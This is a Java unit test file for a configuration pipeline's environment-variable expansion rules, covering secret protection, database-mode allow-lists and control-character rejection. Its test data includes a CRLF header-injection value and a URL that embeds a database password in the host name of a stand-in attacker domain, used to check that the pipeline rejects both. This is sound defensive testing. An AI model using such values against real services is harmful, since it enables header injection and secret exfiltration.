package io.fanout.compile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.fanout.definition.ConfigProblem;
import io.fanout.upstream.http.HttpUpstreamClient;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** SPEC §7's rules for {@code ${NAME}}: Fanout's own secrets, database mode's allow-list, control characters. */
class EnvironmentRulesTests {

    private static final String SECRET = "s3cr3t-never-shown";
    private static final Map<String, String> ENV = Map.of(
            "USERS_TOKEN", SECRET,
            "LEGACY_URL", "jdbc:postgresql://127.0.0.1:1/legacy",
            "OTHER_TOKEN", SECRET,
            "FANOUT_ADMIN_TOKEN", SECRET,
            "FANOUT_ADMIN_TOKENS_ALICE", SECRET,
            "FANOUT_JOBS_TOKEN", SECRET,
            "SPRING_R2DBC_PASSWORD", SECRET,
            "spring_r2dbc_password", SECRET,
            "WITH_NEWLINE", "Bearer x\r\nX-Injected: 1",
            "WITH_NUL", "abc\0def");

    private static List<ConfigProblem> problems(ConfigEnvironment environment, String yaml) {
        return new ConfigPipeline(HttpUpstreamClient::new, new SimpleMeterRegistry(), environment)
                .validate(ConfigPipeline.read(yaml))
                .problems();
    }

    private static String header(String value) {
        return """
                upstreams:
                  users:
                    url: "http://127.0.0.1:1"
                    headers: { X-Key: "%s" }
                """.formatted(value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "FANOUT_ADMIN_TOKEN",
                "FANOUT_ADMIN_TOKENS_ALICE",
                "FANOUT_JOBS_TOKEN",
                "SPRING_R2DBC_PASSWORD",
                "spring_r2dbc_password"
            })
    void shouldNeverExpandFanoutsOwnSecrets(String name) {
        List<ConfigProblem> problems = problems(ConfigEnvironment.fileMode(ENV::get), header("${" + name + "}"));

        assertThat(problems)
                .extracting(ConfigProblem::location, ConfigProblem::message)
                .containsExactly(tuple(
                        "upstreams.users.headers.X-Key", "environment variable '" + name + "' is never expanded"));
        assertThat(problems.toString()).doesNotContain(SECRET);
    }

    @Test
    void shouldNeverExpandFanoutsOwnSecretsInDatabaseModeEvenWhenAllowed() {
        List<ConfigProblem> problems =
                problems(ConfigEnvironment.databaseMode(ENV::get, "*"), header("${SPRING_R2DBC_PASSWORD}"));

        assertThat(problems)
                .extracting(ConfigProblem::message)
                .containsExactly("environment variable 'SPRING_R2DBC_PASSWORD' is never expanded");
    }

    @Test
    void shouldOnlyExpandAllowedNamesInDatabaseMode() {
        ConfigEnvironment database = ConfigEnvironment.databaseMode(ENV::get, "USERS_*, LEGACY_*");
        String yaml = """
                upstreams:
                  users:
                    url: "http://127.0.0.1:1"
                    headers: { Authorization: "Bearer ${USERS_TOKEN}", X-Other: "${OTHER_TOKEN}" }
                  db: { kind: jdbc, url: "${LEGACY_URL}" }
                """;

        List<ConfigProblem> inDatabaseMode = problems(database, yaml);
        List<ConfigProblem> inFileMode = problems(ConfigEnvironment.fileMode(ENV::get), yaml);

        assertThat(inDatabaseMode).hasSize(1);
        ConfigProblem p = inDatabaseMode.get(0);
        assertThat(p.location()).isEqualTo("upstreams.users.headers.X-Other");
        assertThat(p.message()).isEqualTo("environment variable 'OTHER_TOKEN' is not allowed in database mode");
        assertThat(p.hint())
                .contains("fanout.config.env-allow")
                .contains("FANOUT_CONFIG_ENV_ALLOW")
                .contains("USERS_*, LEGACY_*");
        assertThat(inFileMode).isEmpty();
    }

    @Test
    void shouldAllowNothingInDatabaseModeWithoutAnAllowList() {
        List<ConfigProblem> problems =
                problems(ConfigEnvironment.databaseMode(ENV::get, null), header("Bearer ${USERS_TOKEN}"));

        assertThat(problems)
                .extracting(ConfigProblem::message)
                .containsExactly("environment variable 'USERS_TOKEN' is not allowed in database mode");
        assertThat(problems.get(0).hint()).endsWith("allowed now: none");
    }

    @Test
    void shouldRefuseAnExpandedValueWithALineBreakOrAControlCharacterWithoutShowingIt() {
        String yaml = """
                upstreams:
                  users:
                    url: "http://127.0.0.1:1"
                    headers: { Authorization: "${WITH_NEWLINE}", X-Nul: "${WITH_NUL}" }
                """;

        List<ConfigProblem> problems = problems(ConfigEnvironment.fileMode(ENV::get), yaml);

        assertThat(problems)
                .extracting(ConfigProblem::location, ConfigProblem::message)
                .containsExactly(
                        tuple(
                                "upstreams.users.headers.Authorization",
                                "the value of environment variable 'WITH_NEWLINE' contains a line break"),
                        tuple(
                                "upstreams.users.headers.X-Nul",
                                "the value of environment variable 'WITH_NUL' contains a control character"));
        assertThat(problems.toString()).doesNotContain("Injected").doesNotContain("abc");
    }

    @Test
    void shouldCheckAVariableInAUrlHostBeforeAnythingResolvesIt() {
        String yaml = """
                upstreams:
                  users: { url: "http://${SPRING_R2DBC_PASSWORD}.attacker.example/" }
                endpoints:
                  e:
                    path: /e
                    calls: { a: { upstream: users, path: /a } }
                """;
        List<UpstreamDefinitionSeen> built = new java.util.ArrayList<>();
        ConfigPipeline pipeline = new ConfigPipeline(
                u -> {
                    built.add(new UpstreamDefinitionSeen(u.url()));
                    return new HttpUpstreamClient(u);
                },
                new SimpleMeterRegistry(),
                ConfigEnvironment.fileMode(ENV::get));

        ValidatedConfig checked = pipeline.validate(ConfigPipeline.read(yaml));

        assertThat(checked.problems())
                .extracting(ConfigProblem::location, ConfigProblem::message)
                .containsExactly(
                        tuple("upstreams.users.url", "environment variable 'SPRING_R2DBC_PASSWORD' is never expanded"));
        assertThat(built)
                .as("no client (and so no warm-up) for an invalid config")
                .isEmpty();
    }

    private record UpstreamDefinitionSeen(String url) {}

    @Test
    void shouldMatchGlobs() {
        assertThat(ConfigEnvironment.matches("USERS_*", "USERS_TOKEN")).isTrue();
        assertThat(ConfigEnvironment.matches("USERS_*", "USERS_")).isTrue();
        assertThat(ConfigEnvironment.matches("*_TOKEN", "USERS_TOKEN")).isTrue();
        assertThat(ConfigEnvironment.matches("A*B*C", "AxxBxxC")).isTrue();
        assertThat(ConfigEnvironment.matches("USERS_*", "LEGACY_USERS_TOKEN")).isFalse();
        assertThat(ConfigEnvironment.matches("USERS", "USERS_TOKEN")).isFalse();
    }
}
